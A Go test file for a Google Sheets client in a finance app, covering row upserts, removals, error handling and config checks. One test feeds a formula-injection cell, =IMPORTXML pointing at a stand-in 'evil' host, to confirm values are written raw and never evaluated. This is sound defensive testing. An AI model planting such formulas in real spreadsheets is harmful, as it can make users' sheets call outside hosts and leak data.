package google

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"testing"

	"financas/internal/core"

	"github.com/shopspring/decimal"
	goption "google.golang.org/api/option"
	gsheet "google.golang.org/api/sheets/v4"
)

// fakeValues records calls against an in-memory grid.
type fakeValues struct {
	grid    [][]any
	calls   []string
	failGet error
}

func (f *fakeValues) get(_ context.Context, rng string) ([][]any, error) {
	f.calls = append(f.calls, "get "+rng)
	if f.failGet != nil {
		return nil, f.failGet
	}
	out := make([][]any, len(f.grid))
	for i, r := range f.grid {
		if len(r) > 0 {
			out[i] = []any{r[0]}
		}
	}
	return out, nil
}

func (f *fakeValues) update(_ context.Context, rng string, rows [][]any) error {
	f.calls = append(f.calls, "update "+rng)
	var n int
	fmt.Sscanf(rng[strings.Index(rng, "!A")+2:], "%d", &n)
	f.grid[n-1] = rows[0]
	return nil
}

func (f *fakeValues) append(_ context.Context, rng string, rows [][]any) error {
	f.calls = append(f.calls, "append "+rng)
	f.grid = append(f.grid, rows...)
	return nil
}

func (f *fakeValues) clear(_ context.Context, rng string) error {
	f.calls = append(f.calls, "clear "+rng)
	var n int
	fmt.Sscanf(rng[strings.Index(rng, "!A")+2:], "%d", &n)
	f.grid[n-1] = nil
	return nil
}

func sample(id, amount string) core.Transaction {
	return core.Transaction{
		ID:          id,
		UserID:      "u1",
		Kind:        core.Income,
		Date:        core.NewDate(2024, 5, 1),
		Description: "Salário maio",
		Category:    "Salário",
		Amount:      decimal.RequireFromString(amount),
		Method:      "Salário",
	}
}

func TestUpsertWritesHeaderOnEmptySheet(t *testing.T) {
	api := &fakeValues{}
	c := &Client{api: api, sheet: "Transacoes"}

	if err := c.Upsert(context.Background(), sample("t1", "5000")); err != nil {
		t.Fatalf("Upsert: %v", err)
	}
	if len(api.grid) != 2 || api.grid[0][0] != "id" || api.grid[1][0] != "t1" {
		t.Fatalf("unexpected grid: %v", api.grid)
	}
	if api.grid[1][5] != "5000.00" {
		t.Fatalf("amount cell = %v", api.grid[1][5])
	}
}

func TestUpsertRewritesExistingRow(t *testing.T) {
	api := &fakeValues{}
	c := &Client{api: api, sheet: "Transacoes"}
	ctx := context.Background()

	for _, tx := range []core.Transaction{sample("t1", "1"), sample("t2", "2"), sample("t2", "3")} {
		if err := c.Upsert(ctx, tx); err != nil {
			t.Fatalf("Upsert %s: %v", tx.ID, err)
		}
	}
	if len(api.grid) != 3 {
		t.Fatalf("expected header + 2 rows, got %d", len(api.grid))
	}
	if api.grid[2][5] != "3.00" {
		t.Fatalf("row not rewritten: %v", api.grid[2])
	}
	last := api.calls[len(api.calls)-1]
	if last != "update Transacoes!A3:H3" {
		t.Fatalf("last call = %q", last)
	}
}

func TestRemove(t *testing.T) {
	api := &fakeValues{}
	c := &Client{api: api, sheet: "Transacoes"}
	ctx := context.Background()
	if err := c.Upsert(ctx, sample("t1", "1")); err != nil {
		t.Fatal(err)
	}

	if err := c.Remove(ctx, "t1"); err != nil {
		t.Fatalf("Remove: %v", err)
	}
	if api.grid[1] != nil {
		t.Fatalf("row not cleared: %v", api.grid[1])
	}

	n := len(api.calls)
	if err := c.Remove(ctx, "missing"); err != nil {
		t.Fatalf("Remove missing: %v", err)
	}
	if len(api.calls) != n+1 {
		t.Fatalf("expected only a read for a missing id, calls: %v", api.calls[n:])
	}
}

func TestUpsertPropagatesReadError(t *testing.T) {
	boom := errors.New("quota exceeded")
	c := &Client{api: &fakeValues{failGet: boom}, sheet: "Transacoes"}
	if err := c.Upsert(context.Background(), sample("t1", "1")); !errors.Is(err, boom) {
		t.Fatalf("expected wrapped read error, got %v", err)
	}
}

func TestNewRequiresSpreadsheetAndCredentials(t *testing.T) {
	t.Setenv("GOOGLE_APPLICATION_CREDENTIALS", "")
	tests := []struct {
		name string
		cfg  Config
		want string
	}{
		{"no spreadsheet", Config{SheetName: "X"}, "missing spreadsheet id"},
		{"no sheet", Config{SpreadsheetID: "id"}, "missing sheet name"},
		{"no credentials", Config{SpreadsheetID: "id", SheetName: "X"}, "missing service account credentials"},
		{"unreadable file", Config{SpreadsheetID: "id", SheetName: "X", CredentialsFile: "/nonexistent/sa.json"}, "read service account file"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := New(context.Background(), tt.cfg)
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Fatalf("got %v, want error containing %q", err, tt.want)
			}
		})
	}
}

func TestWritesStoreCellsVerbatim(t *testing.T) {
	var mu sync.Mutex
	var options []string
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		options = append(options, r.URL.Query().Get("valueInputOption"))
		mu.Unlock()
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprint(w, "{}")
	}))
	defer srv.Close()

	ctx := context.Background()
	svc, err := gsheet.NewService(ctx, goption.WithEndpoint(srv.URL+"/"), goption.WithoutAuthentication())
	if err != nil {
		t.Fatalf("NewService: %v", err)
	}
	api := &apiValues{svc: svc, spreadsheetID: "sheet-id"}
	row := [][]any{{"t1", `=IMPORTXML("http://evil", "//a")`}}

	if err := api.update(ctx, "Transacoes!A2", row); err != nil {
		t.Fatalf("update: %v", err)
	}
	if err := api.append(ctx, "Transacoes!A:A", row); err != nil {
		t.Fatalf("append: %v", err)
	}

	mu.Lock()
	defer mu.Unlock()
	if len(options) != 2 {
		t.Fatalf("requests = %d, want 2", len(options))
	}
	for _, o := range options {
		if o != "RAW" {
			t.Errorf("valueInputOption = %q, want RAW", o)
		}
	}
}
